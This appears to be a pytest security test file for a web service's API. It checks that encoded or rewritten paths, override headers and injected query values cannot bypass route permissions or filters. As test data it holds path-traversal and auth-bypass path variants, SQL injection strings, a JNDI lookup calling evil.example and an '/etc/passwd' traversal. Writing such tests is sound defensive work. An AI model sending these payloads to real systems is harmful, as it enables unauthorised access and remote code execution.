"""Other ways to write a path or a value than those that are meant: none leads past what a route asks for."""

import http.client
import json
import re
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest

from hub.core.access.rules import Permission
from tests.support.hubs import permissions, query_parameters, routes
from tests.support.site import NOWHERE, Site

FILLED = {"client_id": "nobody", "group_id": "none", "action": "print", "token": "none"}
GUARDED = sorted(
    {
        (method, route.path)
        for route in routes()
        for method in route.methods
        if Permission.PUBLIC not in permissions(route.dependant)
    }
)
SAME = "/%61pi{1}"
"""By the rules of URLs this is the path itself, so whoever shows a key is served."""
DETOURS = [
    *(
        "/{0}",
        "{0}/",
        "/.{0}",
        "/x/..{0}",
        "/x/%2e%2e{0}",
        "/x/%2E%2E{0}",
        "/x%2f..{0}",
        "/docs/..{0}",
        "/health/..{0}",
    ),
    *("/assets/%2e%2e{0}", "/assets/..%2f..{0}", "/api/downloads/..%2f..{0}", "{0}%00", "{0}%20", "{0};a=b", "{0}%3f"),
    *("{0}/.", "{0}/%2e", SAME, "/API{1}", "/api/{1}", "/api/.{1}", "/api%2f{1}", "/api\\{1}"),
]
"""{0} is the path, {1} the path without `/api`."""
OVERRIDES = {
    "X-Original-URL": "/api/clients",
    "X-Rewrite-URL": "/api/clients",
    "X-HTTP-Method-Override": "DELETE",
    "X-Method-Override": "DELETE",
    "X-Forwarded-Prefix": "/api/clients",
    "X-Forwarded-Host": "evil.example",
    "Forwarded": "for=127.0.0.1;host=evil.example;proto=https",
}
INJECTIONS = [
    *(
        "' OR '1'='1",
        "x'::text OR true --",
        "1; SELECT pg_sleep(9)--",
        "\\",
        "'",
        "%",
        "_",
        "%s",
        "%(limit)s",
        "{limit}",
    ),
    *("${jndi:ldap://evil.example}", "a\x1b[2J", "../../etc/passwd", "\u2028"),
]


@pytest.fixture(scope="module")
def wire(site: Site) -> Iterator[http.client.HTTPConnection]:
    """What sends a path as it is written."""
    connection = http.client.HTTPConnection(urlsplit(site.url).netloc, timeout=30)
    yield connection
    connection.close()


def ask(wire: http.client.HTTPConnection, method: str, path: str, headers: dict[str, str]) -> tuple[int, bytes]:
    wire.request(method, path, headers=headers)
    answer = wire.getresponse()
    return answer.status, answer.read()


@pytest.mark.parametrize("detour", DETOURS)
def test_no_other_way_to_write_a_path_reaches_a_route(
    site: Site, wire: http.client.HTTPConnection, detour: str
) -> None:
    found = []
    for method, path in GUARDED:
        filled = re.sub(r"{(\w+)}", lambda name: FILLED.get(name[1], NOWHERE), path)
        written = detour.format(filled, filled.removeprefix("/api"))
        status, _ = ask(wire, method, written, {})
        if status not in (400, 401, 404, 405):
            found.append((method, written, status))
    assert found == []
    key = {"Authorization": f"Bearer {site.key}"}
    status, _ = ask(wire, "GET", detour.format("/api/clients", "/clients"), key)
    assert status in ((200,) if detour == SAME else (404, 422)), "to none, or to the route of one, which has no such id"


@pytest.mark.parametrize("name", OVERRIDES)
def test_no_header_makes_another_request_of_it(site: Site, wire: http.client.HTTPConnection, name: str) -> None:
    key = {"Authorization": f"Bearer {site.key}"}
    group = site.http.post("/api/groups", json={"id": f"override-{name.lower()}"}).json()["id"]
    for path in ("/health", f"/api/groups/{group}"):
        plain = ask(wire, "GET", path, key)
        assert plain[0] == 200
        assert ask(wire, "GET", path, {**key, name: OVERRIDES[name]}) == plain
    site.http.delete(f"/api/groups/{group}").raise_for_status()  # other tests of the site list all groups


def filters() -> list[tuple[str, list[str]]]:
    """Every route that is asked with parameters, but for those that wait or stream."""
    found = {route.path: sorted(query_parameters(route)) for route in routes() if "GET" in route.methods}
    return sorted((path, names) for path, names in found.items() if names and not {"wait", "most_s"} & {*names})


@pytest.mark.parametrize(("path", "names"), filters(), ids=lambda value: value if isinstance(value, str) else "")
def test_a_filter_takes_every_text_for_what_it_says(site: Site, path: str, names: list[str]) -> None:
    filled = re.sub(r"{(\w+)}", lambda name: FILLED.get(name[1], NOWHERE), path)
    for name in names:
        for text in INJECTIONS:
            answer = site.http.get(filled, params={name: text})
            if path == "/api/pair":  # a link leads to its page, whatever it says
                assert answer.status_code == 422 or answer.headers["location"].startswith(("/pair?", "/pair#"))
                continue
            assert answer.status_code in (200, 404, 422), (name, text, answer.text)
            if answer.status_code == 200:
                lines = "jsonl" in answer.headers["content-type"]
                shown = answer.text.splitlines() if lines else answer.json().get("items", [])
                # Only an item that has the text is found by it.
                assert [one for one in shown if json.dumps(text)[1:-1] not in json.dumps(one)] == [], (name, text)
